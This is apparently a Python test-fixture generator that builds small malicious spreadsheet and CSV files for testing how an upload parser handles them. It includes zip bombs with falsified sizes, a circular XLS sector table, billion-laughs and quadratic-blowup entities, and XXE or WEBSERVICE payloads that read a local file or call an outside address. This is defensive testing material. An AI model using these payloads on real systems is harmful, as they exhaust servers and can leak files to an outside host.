"""Files of at most 2 MB that want a gigabyte, a minute or another file: built piece by piece, always the same bytes."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Sequence
from typing import NamedTuple

import xlwt

MEGABYTE = 1024 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = f'<worksheet xmlns="{MAIN}">{{}}<sheetData>{{}}</sheetData>{{}}</worksheet>'
FAR = "XFD1048576"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODS = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="S">{}</table:table></office:spreadsheet></office:body></office:document-content>'
)


class Piece(NamedTuple):
    """Bytes that stand so many times one after another."""

    block: bytes
    times: int = 1


Content = bytes | str | Sequence[bytes | Piece]


class Bomb(NamedTuple):
    """A file: its name and bytes, and words that must stand in what is said of it."""

    name: str
    data: bytes
    words: str


def cell(name: str, value: str = "1") -> str:
    """A cell in a row of its own."""
    return f'<row r="{name.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{name}"><v>{value}</v></c></row>'


def sheet(rows: str, before: str = "", after: str = "", prologue: str = "") -> str:
    """The XML of a sheet."""
    return prologue + SHEET.format(before, rows, after)


def workbook(first: Content, **more: Content) -> bytes:
    """A workbook with this first sheet; `more` are parts, with __ for / and _ for a dot."""
    named = {name.replace("__", "/").replace("_", "."): content for name, content in more.items()}
    return archive({**_FRAME, "xl/worksheets/sheet1.xml": first, **named})


def archive(held: dict[str, Content]) -> bytes:
    """A zip archive, of which no part is ever held whole."""
    packed = {name.encode(): _pack(_pieces(content)) for name, content in held.items()}
    out, lines = bytearray(), bytearray()
    for name, part in packed.items():
        said = struct.pack("<HHHHIIIHH", 0, 8, 0, 0x21, part.check, len(part.packed), part.size, len(name), 0)
        lines += struct.pack("<4sHH", b"PK\x01\x02", 20, 20) + said + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name
        out += struct.pack("<4sH", b"PK\x03\x04", 20) + said + name + part.packed
    end = struct.pack("<HHHHIIH", 0, 0, len(packed), len(packed), len(lines), len(out), 0)
    return bytes(out + lines + b"PK\x05\x06" + end)


class _Packed(NamedTuple):
    packed: bytes
    check: int
    size: int


def _pack(pieces: Iterable[Piece]) -> _Packed:
    """Pieces deflated each from a fresh start, so that one that is repeated is deflated once."""
    packer, packed, check, size = zlib.compressobj(9, zlib.DEFLATED, -15), b"", 0, 0
    for block, times in pieces:
        packed += (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)) * times
        size += len(block) * times
        for _ in range(times):
            check = zlib.crc32(block, check)
    return _Packed(packed + packer.flush(), check, size)


def _pieces(content: Content) -> Iterable[Piece]:
    if isinstance(content, str | bytes):
        return (Piece(content.encode() if isinstance(content, str) else content),)
    return (piece if isinstance(piece, Piece) else Piece(piece) for piece in content)


def repeated(words: bytes, size: int) -> Piece:
    """About so many bytes of the same words again and again."""
    return Piece(words * (MEGABYTE // len(words)), size // MEGABYTE)


def noise(size: int = 1_650_000) -> bytes:
    """Bytes that no packing makes smaller: beside them a bomb looks like a workbook with pictures."""
    return random.Random(7).randbytes(size)


_FRAME: dict[str, Content] = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{_LINKS}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
    "</sheets></workbook>",
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_LINKS}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_LINKS}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="rId3" Type="{_LINKS}/styles" Target="styles.xml"/></Relationships>',
}  # fmt: skip


def ods(rows: str) -> bytes:
    """A sheet of LibreOffice."""
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return archive({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": _ODS.format(rows)})


def lying_sizes(data: bytes, part: str, told: int) -> bytes:
    """The archive, its directory and the part's own heading saying that the part unpacks to so few bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
        entry = zipped.getinfo(part)
    changed = bytearray(data)
    struct.pack_into("<I", changed, entry.header_offset + 22, told)
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(part.encode()))
    struct.pack_into("<I", changed, at + 24, told)
    return bytes(changed)


def many_parts(size: int = 1_990_000) -> bytes:
    """As many parts as go into so many bytes: each line of the directory names the same part."""
    one = archive({"x": b""})
    with zipfile.ZipFile(io.BytesIO(one)) as zipped:
        start = zipped.start_dir
    line, end = one[start:-22], bytearray(one[-22:])
    count = (size - start - 22) // len(line)
    struct.pack_into("<HHII", end, 8, count & 0xFFFF, count & 0xFFFF, count * len(line), start)
    return one[:start] + line * count + bytes(end)


def endless_xls() -> bytes:
    """A workbook of Excel 97 whose table of sectors leads in a circle."""
    data = bytearray(_old_workbook(("x",)))
    (table,) = struct.unpack_from("<I", data, 76)
    for entry in range(127):
        struct.pack_into("<I", data, 512 * (table + 1) + 4 * entry, (entry + 1) % 127)
    return bytes(data)


def far_xls() -> bytes:
    """A workbook of Excel 97 with one cell told to stand in its last row and column."""
    data = _old_workbook((3.14159265,))
    at = data.index(struct.pack("<HH", 0x0203, 14))  # a record NUMBER: row, column, format, value
    return data[: at + 4] + struct.pack("<HH", 0xFFFF, 0xFFFF) + data[at + 8 :]


def nonsense_xls() -> bytes:
    """What begins like a workbook of Excel 97 and goes on as noise."""
    return _old_workbook(("x",))[:1536] + "Workbook".encode("utf-16-le") + noise()


def _old_workbook(values: tuple[object, ...]) -> bytes:
    book, out = xlwt.Workbook(), io.BytesIO()
    first = book.add_sheet("S")
    for row in range(600):
        for column, value in enumerate(values):
            first.write(row, column, value)
    book.save(out)
    return out.getvalue()


def laughs() -> str:
    """Ten entities, each ten of the one before: a gigabyte once they are written out."""
    inner = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    return f"<!DOCTYPE x [<!ENTITY l0 'ha'>{inner}]>"


def with_entity(prologue: str, words: str) -> bytes:
    """A workbook whose first cell holds these words, its sheet preceded by this prologue."""
    return workbook(sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{words}</t></is></c></row>', prologue=prologue))


def bombs(canary: str, address: str) -> Iterator[Bomb]:
    """Each bomb, made when it is asked for. `canary` is a file's address, `address` one of the web."""
    a_cell, picture = cell("A1"), noise()
    repeat = 'table:number-columns-repeated="{}" office:value-type="float" office:value="1"'
    yield Bomb("far cell.xlsx", workbook(sheet(a_cell + cell(FAR))), FAR)
    prefixed = sheet(a_cell + cell(FAR)).replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x=")
    yield Bomb("far cell with prefixes.xlsx", workbook(prefixed), FAR)
    rows = '<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row>'
    far = f'{rows}<table:table-row><table:table-cell table:number-columns-repeated="16383"/><table:table-cell {repeat.format(1)}/></table:table-row>'
    yield Bomb("far cell.ods", ods(far), "")
    yield Bomb("far cell.xls", far_xls(), "")
    merged = f'<mergeCells count="1"><mergeCell ref="A1:{FAR}"/></mergeCells>'
    yield Bomb("merged.xlsx", workbook(sheet(a_cell, after=merged)), "No header row")
    gigabyte = [b"<worksheet><v>", repeated(b"x", 1000 * MEGABYTE), b"</v></worksheet>"]
    text = workbook(gigabyte)
    yield Bomb("a gigabyte of text.xlsx", text, "unpacks to more")
    yield Bomb("lying sizes.xlsx", lying_sizes(text, "xl/worksheets/sheet1.xml", 4000), "damaged")
    body = [
        sheet("").split("</sheetData>")[0].encode(),
        repeated(b"<row><c><v>1</v></c></row>", 27 * MEGABYTE),
        b"</sheetData></worksheet>",
    ]
    yield Bomb("a million rows.xlsx", workbook(body, xl__media__p_png=picture), "1,0")
    small = sheet("").replace("<sheetData>", '<dimension ref="A1"/><sheetData>').split("</sheetData>")[0]
    yield Bomb(
        "a small dimension that lies.xlsx", workbook([small.encode(), *body[1:]], xl__media__p_png=picture), "1,0"
    )
    yield Bomb(
        "a vast dimension that lies.xlsx", workbook(sheet(a_cell, f'<dimension ref="A1:{FAR}"/>')), "No header row"
    )
    yield Bomb("billion laughs.xlsx", with_entity(laughs(), "&l9;"), "damaged")
    quadratic = f"<!DOCTYPE x [<!ENTITY q '{'q' * 100_000}'>]>"
    yield Bomb("quadratic blowup.xlsx", with_entity(quadratic, "&q;" * 20_000), "damaged")
    yield Bomb(
        "a file from outside.xlsx", with_entity(f"<!DOCTYPE x [<!ENTITY e SYSTEM '{canary}'>]>", "&e;"), "damaged"
    )
    yield Bomb("a page from outside.xlsx", with_entity(f"<!DOCTYPE x SYSTEM '{address}'>", "words"), "damaged")
    linked = sheet(a_cell).replace("<v>1</v>", f'<f>WEBSERVICE("{address}")</f><v>1</v>')
    yield Bomb(
        "a link to outside.xlsx",
        workbook(linked, xl__externalLinks__externalLink1_xml=f'<x href="{address}"/>'),
        "No header row",
    )
    yield Bomb("zip in zip.xlsx", archive({"inner.zip": text}), "no spreadsheet")
    yield Bomb("many parts.xlsx", many_parts(), "unpacks to more")
    yield Bomb("deep.xlsx", workbook([b"<worksheet>", repeated(b"<a>", 40 * MEGABYTE)], xl__media__p_png=picture), "")
    strings = [
        f'<sst xmlns="{MAIN}">'.encode(),
        repeated(b"<si><t>" + b"s" * 900 + b"</t></si>", 160 * MEGABYTE),
        b"</sst>",
    ]
    yield Bomb(
        "vast shared texts.xlsx", workbook(sheet(a_cell), xl__sharedStrings_xml=strings, xl__media__p_png=picture), ""
    )
    vast = workbook(
        sheet(a_cell), xl__sharedStrings_xml=[f'<sst xmlns="{MAIN}"><si><t>'.encode(), gigabyte[1], b"</t></si></sst>"]
    )
    yield Bomb("lying sizes of texts.xlsx", lying_sizes(vast, "xl/sharedStrings.xml", 4000), "")
    long = f'<sst xmlns="{MAIN}"><si><t>{"l" * 10 * MEGABYTE}</t></si></sst>'
    shown = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(1, 50_000))
    yield Bomb(
        "one text shown everywhere.xlsx",
        workbook(sheet(shown), xl__sharedStrings_xml=long, xl__media__p_png=picture[:500_000]),
        "",
    )
    unclosed = [sheet("").split("</sheetData>")[0].encode(), repeated(b'<c r="A1" ', 30 * MEGABYTE)]
    yield Bomb("unclosed cells.xlsx", workbook(unclosed, xl__media__p_png=picture), "damaged")
    notes = [b"<comments><commentList>", repeated(b'<comment ref="A1" ', 30 * MEGABYTE)]
    yield Bomb("unclosed notes.xlsx", workbook(sheet(a_cell), xl__comments1_xml=notes, xl__media__p_png=picture), "")
    fields = [b"<pivotCacheDefinition><cacheFields>", repeated(b'<cacheField name="a"><s ', 30 * MEGABYTE)]
    pivot = {"xl__pivotCache__pivotCacheDefinition1_xml": fields}
    yield Bomb("unclosed pivot.xlsx", workbook(sheet(a_cell), xl__media__p_png=picture, **pivot), "")
    yield Bomb("endless.xls", endless_xls(), "")
    yield Bomb("nonsense.xls", nonsense_xls(), "damaged")
    whole = f'<table:table-row table:number-rows-repeated="1048576"><table:table-cell {repeat.format(16384)}/></table:table-row>'
    yield Bomb("a cell repeated.ods", ods(whole), "")
    yield Bomb("one line.csv", b"x" * 2_000_000, "2,000,000 letters")
    yield Bomb("many columns.csv", b"," * 1_999_999, "2,000,000 columns")
    yield Bomb(
        "properties.xlsx",
        workbook(sheet(a_cell), docProps__core_xml=[repeated(b"p", 190 * MEGABYTE)]),
        "unpacks to more",
    )
    styles = [
        f'<styleSheet xmlns="{MAIN}"><cellXfs>'.encode(),
        repeated(b'<xf numFmtId="14"/>', 150 * MEGABYTE),
        b"</cellXfs></styleSheet>",
    ]
    yield Bomb("styles.xlsx", workbook(sheet(a_cell), xl__styles_xml=styles, xl__media__p_png=picture), "")
